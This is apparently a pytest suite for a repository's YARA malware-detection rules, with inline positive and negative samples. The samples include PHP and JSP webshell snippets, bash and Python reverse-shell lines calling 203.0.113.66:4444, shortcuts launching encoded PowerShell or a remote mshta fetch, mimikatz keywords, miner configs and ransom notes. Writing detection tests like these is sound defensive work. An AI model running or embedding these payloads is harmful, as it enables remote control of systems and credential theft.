"""Our YARA rules on samples put together here; none of them does anything, and none is stored as a file of the repository."""

from __future__ import annotations

import base64
import re
from pathlib import Path

import pytest
import yara

RULES = sorted((Path(__file__).resolve().parents[2] / "rules" / "yara").glob("*.yar"))
LINK = bytes.fromhex("4c0000000114020000000000c000000000000046")
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
ASK = "$_" + "POST['a']"
PHP, END = "<" + "?php ", " ?" + ">"
EICAR = "X5O!P%@AP[4" + "\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!" + "$H+H*"
WALLET = "4" + "A" + "b1C2d3E4f5" * 9 + "xyz"

LOADER = b"<%! class U extends Class" + b'Loader{} %><% Cipher c = Cipher.getInstance("AES"); request.getReader(); %>'
PYTHON = b"s=socket.socket(2);os.dup2" + b"(s.fileno(),0);import pty;pty.spawn('/bin/sh');os.system('x')"
APPLICATION = b"<hta:application/><script>new ActiveXObject('WScript." + b"Shell').Run('calc');</script>"


def utf16(text: str) -> bytes:
    return text.encode("utf-16-le")


POSITIVE: list[tuple[str, bytes]] = [
    ("webshell_php_runs_request", f"{PHP}@ev{'al'}({ASK});{END}".encode()),
    ("webshell_php_runs_request", f"GIF89a\n{PHP}sys{'tem'}($_{'GET'}['c']);".encode()),
    ("webshell_php_runs_request", f"<?= `{'$_' + 'REQUEST'}[c]` ?>".encode()),
    ("webshell_php_hidden_code", f"{PHP}ev{'al'}(gzinflate(base64_decode('{'QUJD' * 80}')));".encode()),
    ("webshell_jsp_runs_request", b'<% String c = request.getParameter("c"); Runtime.get' + b"Runtime().exec(c); %>"),
    ("webshell_jsp_runs_request", b'<%@ page %><% new Process' + b'Builder(request.getParameter("x").split(" ")).start(); %>'),
    ("webshell_jsp_loads_encrypted_class", LOADER),
    ("liandun_demo_file", b"#!/bin/sh\n# LIANDUN-DEMO-TEST-FILE\n"),
    ("eicar_test_file", EICAR.encode()),
    ("credential_dumper_words", ("privilege::" + "debug\n" + "sekurlsa::" + "logonpasswords").encode()),
    ("credential_dumper_words", b"MZ" + bytes(64) + utf16("lsadump::" + "sam") + bytes(9) + utf16("gentil" + "kiwi")),
    ("miner_configuration", b'{"algo": "rx/0", "pools": [{"url": "stratum+' + b'tcp://pool.example:3333"}], "donate-level": 1}'),
    ("miner_configuration", f"m -o pool.example:3333 -u {WALLET} --donate-level=1".encode()),
    ("reverse_shell_script", b"bash -i >& /dev/" + b"tcp/203.0.113.66/4444 0>&1"),
    ("reverse_shell_script", PYTHON),
    ("shortcut_starts_interpreter", LINK + bytes(56) + utf16("powershell.exe -w hidden -enc " + "QQBB" * 10)),
    ("shortcut_starts_interpreter", LINK + bytes(56) + utf16("mshta.exe http://203.0.113.66/a.hta")),
    ("html_application_starts_program", APPLICATION),
    ("document_macro_fetches_program", OLE + b"Sub Auto" + b"Open()\x00URLDownload" + b"ToFileA\x00"),
    ("ransom_note", b"All your files have been encrypted! Send 0.5 Bitcoin and write to help-you-now@proton" + b"mail.com"),
    ("ransom_note", "您的文件已被加密，支付比特币后联系 restore@tutanota" .encode() + b".com"),
    ("ransom_note", "您的全部数据被加密，请用比特币付款，联系 restore@onionmail".encode("gb18030") + b".org"),
]  # fmt: skip

NEGATIVE: list[tuple[str, bytes]] = [
    ("webshell_php_runs_request", f"{PHP}echo htmlspecialchars({ASK});{END}".encode()),
    ("webshell_php_runs_request", b"Never write eval($_POST) in your code, says this text."),
    ("webshell_php_hidden_code", f"{PHP}$picture = base64_decode('{'QUJD' * 80}');".encode()),
    ("webshell_jsp_runs_request", b'<% String q = request.getParameter("q"); out.print(q); %>'),
    ("webshell_jsp_loads_encrypted_class", b'<% Cipher c = Cipher.getInstance("AES/GCM/NoPadding"); %>'),
    ("eicar_test_file", b"The EICAR test file is 68 bytes long."),
    ("eicar_test_file", bytes(200) + EICAR.encode()),
    ("credential_dumper_words", b"This page explains privilege::" + b"debug only."),
    ("miner_configuration", b'{"pools": [{"url": "https://pool.example/"}], "threads": 4}'),
    ("reverse_shell_script", b"#!/bin/bash\nexec 3<>/dev/null; bash -i\n"),
    ("shortcut_starts_interpreter", LINK + bytes(56) + utf16("C:\\Program Files\\Editor\\editor.exe")),
    ("html_application_starts_program", b"<html><script>document.title = 'x';</script></html>"),
    ("document_macro_fetches_program", OLE + b"Sub Total()\x00Range(\"A1\")\x00"),
    ("ransom_note", b"Backups are encrypted with AES-256. Questions: helpdesk@lanting.example"),
    ("ransom_note", "数据已加密存储，咨询电话 12345".encode()),
]  # fmt: skip


@pytest.fixture(scope="module")
def compiled() -> yara.Rules:
    return yara.compile(filepaths={path.stem: str(path) for path in RULES}, includes=False)


@pytest.mark.parametrize(("rule", "sample"), POSITIVE, ids=[f"{rule}-{number}" for number, (rule, _) in enumerate(POSITIVE)])
def test_rule_finds_its_sample(compiled: yara.Rules, rule: str, sample: bytes) -> None:
    assert rule in [match.rule for match in compiled.match(data=sample)]


@pytest.mark.parametrize(("rule", "sample"), NEGATIVE, ids=[f"{rule}-{number}" for number, (rule, _) in enumerate(NEGATIVE)])
def test_rule_leaves_the_harmless_neighbour_alone(compiled: yara.Rules, rule: str, sample: bytes) -> None:
    assert rule not in [match.rule for match in compiled.match(data=sample)]


def test_every_rule_has_both_kinds_of_samples_and_its_facts(compiled: yara.Rules) -> None:
    names = {rule.identifier for rule in compiled}
    assert len(names) >= 6
    assert {rule for rule, _ in POSITIVE} == names
    assert {rule for rule, _ in NEGATIVE} == names - {"liandun_demo_file"}
    for rule in compiled:
        assert {"id", "description", "author", "date", "level"} <= set(rule.meta), rule.identifier


def test_the_product_itself_is_clean(compiled: yara.Rules) -> None:
    """No file of the repository (outside this test's neighbours and the demo's own mark) looks like what we seek."""
    root = Path(__file__).resolve().parents[2]
    found = {}
    for folder in ("kernel", "collectors", "detectors", "operations", "rules", "cli", "demo"):
        for path in (root / folder).rglob("*"):
            if path.is_file() and path.suffix in (".py", ".yar", ".yml", ".rules", ".jsonl"):
                hits = {match.rule for match in compiled.match(str(path))} - {"liandun_demo_file"}
                if hits:
                    found[str(path.relative_to(root))] = hits
    assert found == {}


def test_patterns_stand_a_hostile_file(compiled: yara.Rules) -> None:
    """Long runs that make careless patterns slow must pass within the scan's time limit (seconds)."""
    for filler in (
        b"<?php " + b"eval(" * 60_000,
        base64.b64encode(bytes(300_000)),
        b"socket.socket(" * 30_000,
        b"<%" + b"a" * 500_000,
    ):
        compiled.match(data=filler, timeout=10)


def test_no_sample_or_rule_holds_the_test_string_of_eicar() -> None:
    whole = re.escape(EICAR).encode()
    here = [Path(__file__), *RULES]
    assert not any(re.search(whole, path.read_bytes()) for path in here)
